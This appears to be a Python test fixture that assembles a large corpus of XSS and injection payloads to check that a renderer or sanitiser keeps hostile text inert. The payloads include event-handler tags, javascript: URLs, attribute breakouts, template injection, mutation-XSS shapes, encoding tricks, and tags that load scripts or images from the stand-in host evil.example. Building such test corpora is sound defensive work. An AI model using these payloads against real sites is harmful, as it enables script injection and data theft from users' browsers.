"""Hostile text in families.

If a page let it be more than text, it would set `window.owned`, call evil.example or take a shape of its own.
"""

import re
from html.parser import HTMLParser
from itertools import product

OWN = "window.owned=1"

PLAIN = [
    "<script>window.owned = 1</script>",
    "<svg><animate onbegin=window.owned=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<form action=//evil.example><button>go</button></form>",
    "<style>* { display: none }</style>",
    "</mark></blockquote></article><script>window.owned=1</script>",
    "<!-- --><script>window.owned=1</script>",
    "<![CDATA[<script>window.owned=1</script>]]>",
    "<think>window.owned</think><thinking>",
    "nul \0 and half a surrogate \ud800",
    "\u202eevil\u202c \u2066isolated",
]

# -- markup that runs ------------------------------------------------------------------------------------------

TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "select autofocus",
    "textarea autofocus",
    "iframe src=x",
    "object data=x",
    "embed src=x",
    "a href=# tabindex=1",
    "p contenteditable autofocus",
    "math",
    "dialog open",
    "link rel=stylesheet href=x",
    "marquee",
    "x-element tabindex=1 style=animation-name:a",
)
EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter")
GAPS = (" ", "/", "\t", "\n", "\f", " / ")
RUNNING = [
    f"<{tag}{GAPS[number % len(GAPS)]}{event}={OWN}>" for number, (tag, event) in enumerate(product(TAGS, EVENTS))
]

# -- addresses that run ----------------------------------------------------------------------------------------

SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " \x01javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6a;avascript&#58;",
    "&#0000106avascript:",
    "java&Tab;script:",
    "javascript://evil.example/%0A",
    "vbscript:",
    "data:text/html,<script>window.owned=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==",
)
CARRIERS = (
    '<a href="{}">read on</a>',
    "<iframe src='{}'></iframe>",
    "<form><button formaction={}>go</button></form>",
    '<svg><a xlink:href="{}"><text y=9>read on</text></a></svg>',
    "<math href={}>read on</math>",
    "[read on]({})",
    "[read on][1]\n\n[1]: <{}>",
)
ADDRESSES = [
    carrier.format(scheme if scheme.startswith("data") else scheme + OWN)
    for scheme, carrier in product(SCHEMES, CARRIERS)
]

# -- ways out of an attribute or an element --------------------------------------------------------------------

QUOTES = ('"', "'", "`", "&quot;", "&#39;", "&#x22;", "“", '\\"', "\\'", '"/')
WAYS_OUT = (
    "{0} onmouseover={0}window.owned=1",
    "{0} autofocus onfocus={0}window.owned=1{0} x={0}",
    "{0}><script>window.owned=1</script>",
    "{0};window.owned=1;//",
)
BREAKOUTS = [way.format(quote) for quote, way in product(QUOTES, WAYS_OUT)]
OURS = (
    *("p", "mark", "button", "figure", "details", "li", "td", "h2", "time"),
    *("title", "textarea", "style", "script", "noscript", "template", "select", "iframe", "xmp", "svg", "math"),
)
CLOSINGS = [f"</{tag}><img src=x onerror={OWN}>" for tag in OURS]
CLOSINGS += [f"{end}<script>{OWN}</script>" for end in ("-->", "--!>", "]]>", "?>", "*/", "%>", "}}")]

# -- templates -------------------------------------------------------------------------------------------------

TEMPLATES = [
    "${window.owned=1} {{window.owned}} @children {{{value}}}",
    *("${window.owned=1}", "{{window.owned=1}}", "{{{window.owned=1}}}", "#{window.owned=1}", "@{window.owned=1}"),
    *("<%= window.owned=1 %>", "<? window.owned=1 ?>", "{% window.owned=1 %}", "[[window.owned=1]]", "@children"),
    "{{constructor.constructor('window.owned=1')()}}",
    "{{< iframe src=//evil.example >}}",
    "`${window.owned=1}`",
    "<template>${window.owned=1}</template>",
    "<b v-html=window.owned=1 x-init=window.owned=1 ng-init=window.owned=1 onclick=${window.owned=1}>",
    "%{customdata[0]} %{fullData.name} <extra><img src=//evil.example></extra>",
]

# -- what loads by itself --------------------------------------------------------------------------------------

LOADING = (
    "<img src={}>",
    "<img srcset='{} 1x'>",
    "<picture><source srcset={}><img></picture>",
    "<video poster={}>",
    "<audio src={} autoplay>",
    "<video><track default src={}>",
    "<link rel=stylesheet href={}>",
    "<link rel=preload as=image href={}>",
    "<link rel=prefetch href={}>",
    "<link rel=dns-prefetch href={}>",
    "<link rel=modulepreload href={}>",
    "<link rel=icon href={}>",
    "<object data={}></object>",
    "<embed src={}>",
    "<iframe src={}></iframe>",
    "<frameset><frame src={}></frameset>",
    "<script src={}></script>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<base href={}>",
    "<body background={}>",
    "<input type=image src={}>",
    "<svg><image href={}></svg>",
    "<svg><use href={}#x></svg>",
    "<svg><filter id=f><feImage href={}></filter></svg>",
    "<style>@import '{}';</style>",
    "<style>*{{background:url({})}}</style>",
    "<p style='background:url({})'>",
    "<p style=\"list-style:image-set('{}' 1x)\">",
    "<font-face-src><font-face-uri xlink:href={}>",
    "![photo]({})",
    "![photo][1]\n\n[1]: {}",
    "<{}>",
    "\\includegraphics{{{}}}",
    "$$\\href{{{}}}{{x}}$$",
)
HOSTS = ("//evil.example/x", "https://evil.example/x", "\\\\evil.example/x")
CALLING = [way.format(HOSTS[number % len(HOSTS)]) for number, way in enumerate(LOADING)]
CALLING += [way.format("https://evil.example/y.png") for way in LOADING]

# -- shapes that change when they are parsed again -------------------------------------------------------------

MUTATING = [
    "<noscript><p title='</noscript><img src=x onerror=window.owned=1>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.owned=1&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=window.owned=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.owned=1>",
    "<svg><foreignObject><p><style><!--</style><img src=x onerror=window.owned=1>-->",
    "<select><template><img src=x onerror=window.owned=1></template></select>",
    "<listing>&lt;img src=x onerror=window.owned=1&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=window.owned=1>'>",
    "<table><td><svg><desc><table><style><img src=x onerror=window.owned=1>",
    "<img title='`><img src=x onerror=window.owned=1>'>",
    "<a><table><a href=x onfocus=window.owned=1 autofocus>",
    "<scr<script>ipt>window.owned=1</scr</script>ipt>",
    "<<script>window.owned=1//<</script>",
    "<script\x0b>window.owned=1</script\n>",
]

# -- encodings -------------------------------------------------------------------------------------------------

ENCODED = [
    "&lt;img src=x onerror=window.owned=1&gt;",
    "&#60;script&#62;window.owned=1&#60;/script&#62;",
    "&amp;lt;script&amp;gt;window.owned=1&amp;lt;/script&amp;gt;",
    "&LT;script&GT;window.owned=1",
    "&#x3c;script&#x3E;window.owned=1",
    "&#00060script&#00062window.owned=1",
    "%3Cscript%3Ewindow.owned=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.owned=1\\u003c/script\\u003e",
    "\\x3cscript\\x3ewindow.owned=1",
    "+ADw-script+AD4-window.owned=1+ADw-/script+AD4-",
    "＜script＞window.owned=1＜/script＞",
    "<\0script>window.owned=1</script>",
    "<scr\u200bipt>window.owned=1</script>",
    "<\ud800img src=x onerror=window.owned=1>",
    "\udc00<img src=x onerror=window.owned=1>\ud800",
    "<img src=x onerror=window.owned=1>\ufeff",
    "\u202e<img src=x onerror=window.owned=1>\u202c",
    "\u2067<script>window.owned=1</script>\u2069",
    "\u2028window.owned=1\u2029//",
    "<ſcript>window.owned=1</ſcript>",
]

# -- Markdown and LaTeX ----------------------------------------------------------------------------------------

WRITTEN = [
    "[read on](https://evil.example)",
    "https://evil.example and www.evil.example and mail@evil.example",
    "[1]: https://evil.example",
    "[^1]: https://evil.example",
    "[^1] [1] [read on][^1]",
    "# Heading",
    "Heading\n===",
    "Heading\n---",
    "1. one",
    "1) one",
    "- one\n- two\n\n    code",
    "+ one",
    "* one",
    "> said",
    "    code",
    "```\ncode\n```",
    "~~~html\n<img src=//evil.example>\n~~~",
    "**bold** _slanted_ ~~gone~~ `code` | a | b |",
    "| a | b |\n|---|---|\n| <img src=//evil.example> | 1 |",
    "***",
    ":::{raw} html\n<img src=//evil.example>\n:::",
    "<div markdown=1>[x](//evil.example)</div>",
    "{.class onclick=window.owned=1}",
    "text\\\n<img src=//evil.example>",
    "$$\\href{javascript:window.owned=1}{x}$$ \\(x\\) \\[y\\]",
    "\\(\\href{javascript:window.owned=1}{x}\\)",
    "$\\url{javascript:window.owned=1}$",
    "$\\htmlData{x=//evil.example}{x}$ \\input{//evil.example}",
    "\\begin{html}<img src=//evil.example>\\end{html}",
    "<b>bold</b><br><a href='https://evil.example'>read on</a><sup>1</sup>",
]

PAYLOADS = list(
    dict.fromkeys(
        PLAIN + RUNNING + ADDRESSES + BREAKOUTS + CLOSINGS + TEMPLATES + CALLING + MUTATING + ENCODED + WRITTEN
    )
)


class Seen(HTMLParser):
    """The tags, attributes and text that a browser would see."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.text = [], [], ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.tags.append("comment")

    def handle_decl(self, decl):
        self.tags.append("declaration")

    unknown_decl = handle_pi = handle_decl


def shown(text: str) -> str:
    """Return text as a page shows it: what no page can carry is replaced."""
    return text.replace("\0", "\ufffd").encode("utf-8", "replace").decode()


def in_a_line(text: str) -> str:
    """Text as the page shows it in one line: white space is spaces, and what turns text round is gone."""
    return " ".join(re.sub("[\u202a-\u202e\u2066-\u2069]", "", shown(text)).split())
